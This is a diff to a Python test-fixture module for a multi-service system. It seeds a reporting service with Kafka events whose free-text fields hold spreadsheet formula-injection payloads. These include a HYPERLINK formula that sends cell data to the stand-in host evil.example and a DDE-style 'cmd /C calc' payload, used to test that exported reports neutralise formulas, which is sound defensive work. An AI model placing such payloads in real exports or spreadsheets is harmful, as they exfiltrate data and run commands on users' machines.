@@ -6,22 +6,54 @@ from __future__ import annotations
 import contextlib
 from collections.abc import AsyncIterator, Awaitable, Callable
 from dataclasses import dataclass, field
+from datetime import UTC, date, datetime, time
 from pathlib import Path
 from typing import Any
 from uuid import uuid4
 
 import httpx
+from aiokafka import AIOKafkaProducer
 from bali_activities.app import create_app as create_activities
 from bali_activities.settings import ActivitiesSettings
 from bali_common.auth import Role
+from bali_common.catalogue import load_strategy
 from bali_common.db import utcnow
+from bali_common.events import STREAM_TOPICS, CloudEvent
+from bali_common.events.activities import (
+    ActivityCreated,
+    ActivityParticipant,
+    ActivityStatus,
+    ActivitySummary,
+    ActivityType,
+    AgeGroupValue,
+    OutputValue,
+    ParticipantRole,
+)
+from bali_common.events.alerts import (
+    AlertRaised,
+    AlertStatus,
+    AlertSummary,
+    Certainty,
+    Sensitivity,
+    Severity,
+    SituationType,
+    Urgency,
+)
+from bali_common.events.members import MemberKind, MemberRegistered
+from bali_common.events.shared import Actor
 from bali_common.http.concurrency import etag_of
 from bali_common.settings import CommonSettings
 from bali_consultation.alerts.schemas import ALERT_EXAMPLE
 from bali_consultation.app import create_app as create_consultation
 from bali_consultation.settings import ConsultationSettings
 from bali_devkit.broker import free_port
-from bali_devkit.testing.plugin import TokenBook, running, serving, settings_factory_for
+from bali_devkit.testing.plugin import (
+    TokenBook,
+    eventually,
+    running,
+    serving,
+    settings_factory_for,
+)
 from bali_notifications.app import create_app as create_notifications
 from bali_notifications.deliveries.models import Delivery, DeliveryStatus, SourceEvent
 from bali_notifications.inbox.models import InboxItem
@@ -120,6 +152,7 @@ async def seed_consultation(service: Deployed) -> None:
 #: Host names the notifications service resolves through `resolver`, never the system's DNS.
 PUBLIC_ADDRESS = "93.184.215.14"
 FAKE_DNS = {
+    "localhost": ["127.0.0.1", "::1"],
     "hooks.example.org": [PUBLIC_ADDRESS],
     "receiver.example.org": [PUBLIC_ADDRESS],
     "intranet.example.org": ["10.1.2.3"],
@@ -202,8 +235,117 @@ async def seed_notifications(service: Deployed) -> None:
     }
 
 
+#: Text that spreadsheet software runs as a formula, put into every free-text field that
+#: reaches a report: alone, after a list separator, after spaces, after a tab.
+FORMULAS = {
+    "member name": '=HYPERLINK("http://evil.example/?"&A1,"Member")',
+    "alert title": "+SUM(1+1)*cmd|' /C calc'!A0",
+    "affected member": "-2+3",
+    "activity title": "@SUM(1+1)",
+    "lead member": "\t=1+1",
+    "participant": "x;=1+1",
+    "indicator": "=1+1",
+    "unit": " -1+1",
+    "age group": "18-24;@A1",
+}
+
+
+def hostile_events(today: date) -> list[CloudEvent]:
+    """The events other services would publish, with `FORMULAS` in their free text."""
+    now = datetime.combine(today, time(3), tzinfo=UTC)
+    actor = Actor(subject="someone", member_id="TH")
+    member = MemberRegistered(
+        member_id="TH",
+        name=FORMULAS["member name"],
+        kind=MemberKind.member_state,
+        is_co_chair=False,
+        version=1,
+    )
+    alert = AlertSummary(
+        alert_id="formula-alert",
+        version=1,
+        status=AlertStatus.raised,
+        situation_type=SituationType.maritime_distress,
+        title=FORMULAS["alert title"],
+        severity=Severity.extreme,
+        urgency=Urgency.immediate,
+        certainty=Certainty.observed,
+        sensitivity=Sensitivity.public,
+        raised_by_member="TH",
+        affected_members=["ID", FORMULAS["affected member"]],
+        raised_at=now,
+    )
+    output = OutputValue(
+        indicator=FORMULAS["indicator"],
+        value=12,
+        unit=FORMULAS["unit"],
+        by_age=[AgeGroupValue(age_group=FORMULAS["age group"], value=12)],
+    )
+    participants = ["TH", FORMULAS["participant"]]
+    activity = ActivitySummary(
+        activity_id="formula-activity",
+        version=1,
+        title=FORMULAS["activity title"],
+        item_numbers=[11],
+        area_numbers=[load_strategy().item(11).area_number],
+        type=ActivityType.workshop,
+        status=ActivityStatus.completed,
+        lead_member=FORMULAS["lead member"],
+        participating_members=participants,
+        participants=[
+            ActivityParticipant(member_id=FORMULAS["lead member"], role=ParticipantRole.lead),
+            *(
+                ActivityParticipant(member_id=m, role=ParticipantRole.participant)
+                for m in participants
+            ),
+        ],
+        planned_start=today,
+        planned_end=today,
+        outputs=[output],
+        related_alert_id=alert.alert_id,
+    )
+    return [
+        CloudEvent.of(member, source="/bali/activities", subject="TH"),
+        CloudEvent.of(
+            AlertRaised(alert=alert, actor=actor, occurred_at=now, description="Boats adrift"),
+            source="/bali/consultation",
+            subject=alert.alert_id,
+        ),
+        CloudEvent.of(
+            ActivityCreated(activity=activity, actor=actor, occurred_at=now),
+            source="/bali/activities",
+            subject=activity.activity_id,
+        ),
+    ]
+
+
+async def publish(settings: CommonSettings, events: list[CloudEvent]) -> None:
+    """To the topics of the events' streams, as the services' outbox relays do."""
+    producer = AIOKafkaProducer(bootstrap_servers=settings.kafka_bootstrap_servers)
+    await producer.start()
+    try:
+        for event in events:
+            topic = STREAM_TOPICS[event.payload().stream].qualified(settings.kafka_topic_prefix)
+            await producer.send(
+                topic, event.kafka_value(), key=event.kafka_key(), headers=event.kafka_headers()
+            )
+        await producer.flush()
+    finally:
+        await producer.stop()
+
+
 async def seed_reporting(service: Deployed) -> None:
-    """Reporting keeps no member's objects: its ids are operations' (rebuilds, dead letters)."""
+    """Reports built from events whose free text holds formulas. Reporting keeps no member's
+    objects: its ids are operations' (rebuild runs, dead letters)."""
+    events = hostile_events(datetime.now(UTC).date())
+    await publish(service.settings, events)
+    admin = service.tokens.admin()
+
+    async def applied() -> bool:
+        counts = await service.client.get("/v1/pipeline/event-counts", headers=admin)
+        return int(counts.json()["total"]) >= len(events)
+
+    await eventually(applied, timeout=60)
     service.private = {"run_id": uuid4().hex, "letter_id": "1"}
     service.missing = {"run_id": "0" * 32, "letter_id": "999999"}
 
